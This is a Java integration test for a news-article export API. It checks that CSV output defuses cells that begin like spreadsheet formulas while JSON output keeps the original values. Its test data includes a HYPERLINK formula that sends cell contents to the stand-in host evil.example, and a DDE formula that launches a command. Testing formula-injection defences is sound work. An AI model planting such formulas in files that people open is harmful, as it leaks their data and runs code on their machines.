package io.facetwire.api.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import io.facetwire.solr.ArticleFields;
import java.io.StringReader;
import java.util.Date;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.solr.common.SolrInputDocument;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Articles whose title, outlet, byline, people and topics start the way spreadsheet formulas do
 * ({@code = + - @}, tab, CR): the CSV export must hand none of them to a spreadsheet as a formula,
 * while JSON lines keep every value as it was.
 */
class CsvInjectionIT extends ReliabilityApp {
  static final String CANARY = "formulacanary";
  static final String FIELDS = "id,title,outlet,byline,people,topics,wordCount";
  static final List<List<String>> ARTICLES =
      List.of(
          List.of(
              "=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")",
              "=cmd|' /C calc'!A0",
              "@Mallory",
              "+topic"),
          List.of("+1+1 is two", "@SUM(1,2)", "-Eve", "=1"),
          List.of("-2+3 minus", "\tTab Outlet", "=Trudy", "@mention"),
          List.of("@SUM(A1:A9)", "+Plus Outlet", "\tTabbed Person", "-minus"),
          List.of("\tTabbed title", "-Minus Outlet", "+Plus Person", "\rCR topic"));

  @BeforeEach
  void formulas() throws Exception {
    for (int i = 0; i < ARTICLES.size(); i++) {
      List<String> a = ARTICLES.get(i);
      SolrInputDocument d = new SolrInputDocument();
      d.setField(ArticleFields.ID, "formula-" + i);
      d.setField(ArticleFields.TITLE, a.get(0));
      d.setField(ArticleFields.OUTLET, a.get(1));
      d.setField(ArticleFields.BYLINE, a.get(2));
      d.setField(ArticleFields.PEOPLE, List.of(a.get(2), "Ann"));
      d.setField(ArticleFields.TOPICS, List.of(a.get(3)));
      d.setField(ArticleFields.BODY, "The " + CANARY + " article number " + i + ".");
      d.setField(ArticleFields.WORD_COUNT, -i);
      d.setField(ArticleFields.DATE, new Date(1_738_627_200_000L + i * 86_400_000L));
      solr.add(d);
    }
    solr.commit();
  }

  @Test
  void csvCellsNeverStartLikeAFormula() throws Exception {
    Http.Reply r = http().get("/api/export?format=csv&q=" + CANARY + "&fields=" + FIELDS);
    assertThat(r.status()).isEqualTo(200);
    List<CSVRecord> rows =
        CSVFormat.RFC4180
            .builder()
            .setCommentMarker('#')
            .setHeader()
            .setSkipHeaderRecord(true)
            .get()
            .parse(new StringReader(r.body()))
            .getRecords();
    assertThat(rows).hasSize(ARTICLES.size());
    for (CSVRecord row : rows) {
      List<String> a = ARTICLES.get(Integer.parseInt(row.get("id").substring("formula-".length())));
      assertThat(row.get("title")).isEqualTo("'" + a.get(0));
      assertThat(row.get("outlet")).isEqualTo("'" + a.get(1));
      assertThat(row.get("byline")).isEqualTo("'" + a.get(2));
      assertThat(row.get("people")).isEqualTo("'" + a.get(2) + "; Ann");
      assertThat(row.get("topics")).isEqualTo("'" + a.get(3));
      assertThat(row.get("wordCount")).as("numbers stay numbers").matches("-?\\d+");
      for (String cell : row.values())
        assertThat(cell).as(row.toString()).doesNotMatch("(?s)^[=+@\\t\\r].*");
    }
    System.out.printf(
        "[reliability] CSV injection: %d articles with formula-like title, outlet, byline, people and "
            + "topics; %d cells neutralised in the CSV export%n",
        rows.size(), rows.size() * 5);
  }

  @Test
  void jsonLinesKeepTheValuesAsTheyAre() throws Exception {
    Http.Reply r = http().get("/api/export?format=jsonl&q=" + CANARY + "&fields=" + FIELDS);
    assertThat(r.status()).isEqualTo(200);
    List<JsonNode> rows =
        r.body().lines().skip(1).map(l -> JsonMapper.shared().readTree(l)).toList();
    assertThat(rows).hasSize(ARTICLES.size());
    for (JsonNode row : rows) {
      List<String> a =
          ARTICLES.get(Integer.parseInt(row.get("id").asString().substring("formula-".length())));
      assertThat(
              Map.of(
                  "title",
                  row.get("title").asString(),
                  "outlet",
                  row.get("outlet").asString(),
                  "people",
                  row.get("people").get(0).asString()))
          .isEqualTo(Map.of("title", a.get(0), "outlet", a.get(1), "people", a.get(2)));
    }
  }
}
